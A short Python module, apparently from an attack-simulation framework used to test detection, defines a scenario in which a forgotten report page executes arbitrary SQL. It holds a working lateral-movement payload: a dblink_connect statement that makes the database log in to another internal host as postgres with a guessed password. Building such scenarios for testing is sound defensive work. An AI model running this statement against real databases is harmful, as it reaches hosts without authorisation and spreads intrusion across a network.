"""F5: dblink has the database connect to where the app cannot."""

from backwatch.attack.clients.psycopg import Psycopg
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import ReportPage


class ReachesOtherHost(ReportPage):
    """A forgotten page for reports executes any statement."""

    code = "F5"
    attack = "has the database connect to another machine by dblink"
    reference = "https://attack.mitre.org/techniques/T1210/"
    rule = "lateral-movement"
    shows = "[['0']]"
    statement = "SELECT dblink_connect('host=10.0.0.5 user=postgres password=guess')"
    runs = (Run(Psycopg),)
